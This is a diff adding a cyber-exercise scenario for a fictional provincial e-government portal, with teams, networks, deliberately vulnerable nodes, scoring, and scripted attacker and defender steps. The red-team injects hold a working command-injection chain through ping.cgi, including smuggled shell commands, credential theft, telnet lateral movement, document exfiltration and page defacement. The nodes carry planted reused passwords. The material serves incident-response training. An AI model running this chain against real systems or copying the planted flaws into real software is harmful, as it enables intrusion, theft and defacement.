@@ -1,0 +1,298 @@
+-- Provincial e-government portal: a security-level-3 system (Decree
+-- 85/2016) of the fictional province of Hòa Bình Xanh. Every blue team gets
+-- its own copy of the DMZ and the internal network; the red zone is shared.
+-- Language reference: docs/scenario-language.md.
+
+scenario {
+  name = "provincial-portal",
+  title = "Diễn tập thực chiến: Cổng thông tin điện tử tỉnh Hòa Bình Xanh",
+  description = "Tấn công vào cổng dịch vụ công trực tuyến, đánh cắp tài liệu mật "
+             .. "và thay đổi giao diện cổng thông tin; đội ứng cứu phải phát hiện, "
+             .. "báo cáo và khắc phục.",
+  organisation = "Sở Thông tin và Truyền thông tỉnh Hòa Bình Xanh",
+  year = 2026,
+  security_level = 3,
+  duration = "4h",
+  seed = 20261121,
+  address_pool = "10.64.0.0/10",
+  default_policy = "deny",
+}
+
+-- Teams --------------------------------------------------------------------
+team "white" { role = "white", display_name = "Ban tổ chức diễn tập",
+               organisation = "Cục An toàn thông tin" }
+team "red1"  { role = "red", display_name = "Đội tấn công", members = 4 }
+team "blue1" { role = "blue", display_name = "Đội ứng cứu sự cố tỉnh Hòa Bình Xanh",
+               organisation = "Sở TT&TT Hòa Bình Xanh", members = 5 }
+team "blue2" { role = "blue", display_name = "Đội ứng cứu sự cố tỉnh Sơn Lâm",
+               organisation = "Sở TT&TT Sơn Lâm", members = 5 }
+
+-- Networks -------------------------------------------------------------------
+network "dmz"      { cidr = "10.10.1.0/24", zone = "per_team",
+                     description = "Vùng DMZ: cổng thông tin, dịch vụ công, thư điện tử" }
+network "internal" { cidr = "10.10.2.0/24", zone = "per_team",
+                     description = "Mạng nội bộ: máy chủ tài liệu, máy quản trị" }
+network "red"      { cidr = "172.30.0.0/24", zone = "shared",
+                     description = "Internet as seen by the attackers" }
+
+-- Firewall: first match wins, then default_policy (deny).
+allow { from = "red", to = "dmz", protocol = "tcp", ports = {80},
+        description = "public web: portal and online public services" }
+allow { from = "red", to = "mail", protocol = "tcp", ports = {25},
+        description = "inbound mail to the relay only" }
+allow { from = "dmz", to = "internal", protocol = "tcp", ports = {23},
+        description = "legacy remote administration from DMZ servers (the weakness)" }
+allow { from = "mail", to = "internal", protocol = "tcp", ports = {25},
+        description = "mail relay delivers to internal mailboxes" }
+allow { from = "internal", to = "dmz", description = "administrators manage the DMZ" }
+
+-- Nodes ----------------------------------------------------------------------
+node "portal" {
+  template = "micro", security_level = 3, value = 2,
+  role = "Cổng thông tin điện tử tỉnh (public portal)",
+  iface { network = "dmz", address = "10.10.1.10" },
+  service "http" { port = 80, reachable_from = {"red", "internal"},
+                   check = { kind = "http", path = "/", expect = "Cong thong tin" } },
+  service "telnet" { port = 23 },
+  vuln "weak-password" { cwe = "CWE-521", severity = "high", service = "telnet", cost = 2,
+                         description = "reused administrator password" },
+  account { user = "admin", password = "HoaBinhXanh@2024", admin = true },
+  file { path = "/www/index.html", source = "files/portal-index.html" },
+}
+
+node "dichvucong" {
+  template = "micro", security_level = 3, value = 2,
+  role = "Cổng dịch vụ công trực tuyến (online public services, CGI)",
+  iface { network = "dmz", address = "10.10.1.11" },
+  service "http" { port = 80, reachable_from = {"red"},
+                   check = { kind = "http", path = "/cgi-bin/ping.cgi?host=127.0.0.1",
+                             expect = "PING" } },
+  vuln "cgi-cmd-injection" { cwe = "CWE-78", severity = "critical", service = "http", cost = 1,
+                             description = "ping.cgi passes host= to sh" },
+  vuln "world-readable-secret" { cwe = "CWE-732", severity = "medium", cost = 1,
+                                 description = "/var/backups/credentials.txt is mode 0644" },
+  account { user = "admin", password = "HoaBinhXanh@2024", admin = true },
+  file { path = "/root/flag.txt", content = "FLAG{dvc-root-7f3a91}", mode = "0600" },
+}
+
+node "mail" {
+  template = "micro", security_level = 3, value = 1,
+  role = "Máy chủ chuyển tiếp thư (SMTP relay)",
+  iface { network = "dmz", address = "10.10.1.12" },
+  service "smtp" { port = 25, reachable_from = {"red"},
+                   check = { kind = "smtp", expect = "220" } },
+  vuln "smtp-vrfy-enum" { cwe = "CWE-204", severity = "low", service = "smtp", cost = 3 },
+}
+
+node "docs" {
+  template = "micro", security_level = 3, value = 3,
+  role = "Máy chủ tài liệu (document server, crown jewels)",
+  iface { network = "internal", address = "10.10.2.10" },
+  service "telnet" { port = 23, reachable_from = {"dmz"} },
+  vuln "weak-password" { cwe = "CWE-521", severity = "high", service = "telnet", cost = 2,
+                         description = "administrator password reused from the DMZ" },
+  account { user = "admin", password = "HoaBinhXanh@2024", admin = true },
+  file { path = "/srv/docs/secret.txt", mode = "0600",
+         content = "TÀI LIỆU MẬT - Kế hoạch chuyển đổi số 2026\nFLAG{docs-exfil-52c8e0}\n" },
+}
+
+node "admin-ws" {
+  template = "micro", security_level = 3, value = 1,
+  role = "Máy trạm quản trị (administrator workstation)",
+  iface { network = "internal", address = "10.10.2.20" },
+  service "telnet" { port = 23 },
+  vuln "weak-password" { cwe = "CWE-521", severity = "high", service = "telnet", cost = 2 },
+  account { user = "admin", password = "HoaBinhXanh@2024", admin = true },
+  account { user = "quantri", password = "123456" },
+}
+
+node "attacker" {
+  template = "micro", role = "red team jump host",
+  iface { network = "red", address = "172.30.0.10" },
+}
+
+-- Objectives -------------------------------------------------------------------
+objective "steal-doc" { kind = "exfiltrate", node = "docs", path = "/srv/docs/secret.txt",
+                        flag = "FLAG{docs-exfil-52c8e0}", points = 100,
+                        description = "Get the secret planning document off the docs server" }
+objective "root-dvc" { kind = "read_flag", node = "dichvucong", path = "/root/flag.txt",
+                       flag = "FLAG{dvc-root-7f3a91}", points = 50 }
+objective "deface-portal" { kind = "deface", node = "portal", service = "http", path = "/",
+                            points = 60 }
+objective "portal-up" { kind = "keep_available", node = "portal", service = "http" }
+objective "dvc-up" { kind = "keep_available", node = "dichvucong", service = "http" }
+objective "mail-up" { kind = "keep_available", node = "mail", service = "smtp" }
+
+-- Red injects: the attack chain ---------------------------------------------------
+local CGI = "/cgi-bin/ping.cgi?host="
+
+-- Runs a shell command through the CGI injection; returns its output or nil.
+local function inject_cmd(ctx, cmd)
+  local r = ctx.http("dichvucong", CGI .. "127.0.0.1;" .. cmd, { from = "attacker" })
+  if r.status ~= 200 then return nil end
+  return r.body
+end
+
+inject "recon-web" {
+  owner = "red", technique = "T1595.002", target = "dichvucong", at = "00:05:00",
+  description = "Scan the public web services for known CGI scripts",
+  run = function(ctx)
+    local r = ctx.http("dichvucong", "/cgi-bin/ping.cgi?host=127.0.0.1", { from = "attacker" })
+    return r.status == 200
+  end,
+}
+
+inject "exploit-cgi" {
+  owner = "red", technique = "T1190", target = "dichvucong",
+  after = { inject = "recon-web", on = "success", delay = "5m" },
+  repeats = 3, every = "2m", until_success = true, points = { success = 50, failure = 0 },
+  description = "Command injection in ping.cgi: read the root flag",
+  run = function(ctx)
+    local out = inject_cmd(ctx, "cat /root/flag.txt")
+    local ok = out ~= nil and out:find("FLAG{", 1, true) ~= nil
+    if ok then ctx.emit { kind = "flag_captured", objective = "root-dvc" } end
+    return ok
+  end,
+}
+
+inject "steal-creds" {
+  owner = "red", technique = "T1552.001", target = "dichvucong",
+  after = { inject = "exploit-cgi", on = "success", delay = "3m" },
+  description = "Read the world-readable credentials backup",
+  run = function(ctx)
+    local out = inject_cmd(ctx, "cat /var/backups/credentials.txt")
+    if not out then return false end
+    local user, pass = out:match("(%w+):(%S+)")
+    if not user then return false end
+    ctx.put("attacker", "/tmp/creds.txt", user .. ":" .. pass .. "\n")
+    return true
+  end,
+}
+
+inject "lateral-docs" {
+  owner = "red", technique = "T1021", target = "docs",
+  after = { inject = "steal-creds", on = "success", delay = "10m" },
+  repeats = 2, every = "5m", until_success = true, points = 30,
+  description = "Log in to the document server over telnet with the reused password",
+  run = function(ctx)
+    local creds = ctx.get("attacker", "/tmp/creds.txt") or ""
+    local user, pass = creds:match("(%w+):(%S+)")
+    if not user then return false end
+    local out = inject_cmd(ctx, string.format(
+      "(sleep 1; echo %s; sleep 1; echo %s; sleep 1; echo id; sleep 1) | telnet 10.10.2.10",
+      user, pass))
+    return out ~= nil and out:find("uid=0", 1, true) ~= nil
+  end,
+}
+
+inject "exfil-doc" {
+  owner = "red", technique = "T1041", target = "docs",
+  after = { inject = "lateral-docs", on = "success", delay = "5m" },
+  points = { success = 100 },
+  description = "Copy the secret document out through the compromised web server",
+  run = function(ctx)
+    local creds = ctx.get("attacker", "/tmp/creds.txt") or ""
+    local user, pass = creds:match("(%w+):(%S+)")
+    if not user then return false end
+    local out = inject_cmd(ctx, string.format(
+      "(sleep 1; echo %s; sleep 1; echo %s; sleep 1; echo 'cat /srv/docs/secret.txt'; sleep 1)"
+        .. " | telnet 10.10.2.10", user, pass))
+    if not out or not out:find("FLAG{", 1, true) then return false end
+    ctx.put("attacker", "/loot/secret.txt", out)
+    ctx.emit { kind = "exfiltrated", objective = "steal-doc" }
+    return true
+  end,
+}
+
+inject "deface-portal" {
+  owner = "red", technique = "T1491.002", target = "portal",
+  after = { inject = "steal-creds", on = "success", delay = "20m" },
+  points = 60,
+  description = "Replace the portal's front page using the reused administrator password",
+  run = function(ctx)
+    local creds = ctx.get("attacker", "/tmp/creds.txt") or ""
+    local user, pass = creds:match("(%w+):(%S+)")
+    if not user then return false end
+    inject_cmd(ctx, string.format(
+      "(sleep 1; echo %s; sleep 1; echo %s; sleep 1; "
+        .. "echo 'echo HACKED-BY-RED1 > /www/index.html'; sleep 1) | telnet 10.10.1.10",
+      user, pass))
+    local r = ctx.http("portal", "/", { from = "attacker" })
+    return r.body ~= nil and r.body:find("HACKED-BY-RED1", 1, true) ~= nil
+  end,
+}
+
+-- Blue injects: a scripted defender (used for training runs and as the
+-- reference behaviour; live blue teams act through the submission channel).
+inject "detect-cgi-abuse" {
+  owner = "blue", technique = "T1190", target = "dichvucong", poll = "30s",
+  description = "Watch the CGI log for shell metacharacters",
+  when = function(ctx)
+    local log = ctx.exec("dichvucong", "cat /var/log/cgi.log").output or ""
+    return log:find("host=127.0.0.1;", 1, true) ~= nil
+  end,
+  run = function(ctx)
+    ctx.report { kind = "detection", technique = "T1190", node = "dichvucong",
+                 summary = "Command injection attempts against ping.cgi" }
+    return true
+  end,
+}
+
+inject "incident-report" {
+  owner = "blue", target = "dichvucong",
+  after = { inject = "detect-cgi-abuse", on = "success", delay = "10m" },
+  description = "File the incident report to the white cell",
+  run = function(ctx)
+    ctx.report { kind = "incident", severity = "high", node = "dichvucong",
+                 summary = "Public-service portal compromised through ping.cgi; "
+                        .. "credentials in /var/backups exposed" }
+    return true
+  end,
+}
+
+inject "patch-cgi" {
+  owner = "blue", technique = "M1050", target = "dichvucong",
+  after = { inject = "detect-cgi-abuse", on = "success", delay = "5m" },
+  description = "Disable the vulnerable CGI and remove the credentials backup",
+  run = function(ctx)
+    local a = ctx.exec("dichvucong", "chmod 000 /www/cgi-bin/ping.cgi")
+    local b = ctx.exec("dichvucong", "rm -f /var/backups/credentials.txt")
+    return a.status == 0 and b.status == 0
+  end,
+}
+
+inject "revert-portal" {
+  owner = "blue", target = "portal", manual = true,
+  description = "Restore the portal from its snapshot (costs revert_penalty points)",
+  run = function(ctx)
+    ctx.emit { kind = "revert_requested", node = "portal" }
+    return true
+  end,
+}
+
+-- White injects: tasks for every blue team --------------------------------------
+inject "press-query" {
+  owner = "white", manual = true, response_due = "20m",
+  description = "Báo chí hỏi về việc lộ tài liệu mật của tỉnh: gửi báo cáo trong 20 phút "
+             .. "(the press asks about a leak: file a report within 20 minutes)",
+}
+
+inject "ministry-status" {
+  owner = "white", at = "02:00:00", response_due = "30m",
+  description = "Bộ TT&TT yêu cầu báo cáo tình hình ứng cứu (status report to the ministry)",
+  run = function(ctx)
+    ctx.emit { kind = "task", team = ctx.team, text = "Báo cáo tình hình trong 30 phút" }
+    return true
+  end,
+}
+
+-- Scoring --------------------------------------------------------------------------
+scoring {
+  weights = { availability = 0.30, red_impact = 0.25, detection = 0.25, reports = 0.15,
+              penalties = 0.05 },
+  check_interval = "60s",
+  sla_threshold = 3,
+  ttd_decay = "linear",
+  ttd_full_credit = "5m",
+  ttd_zero_credit = "60m",
+}
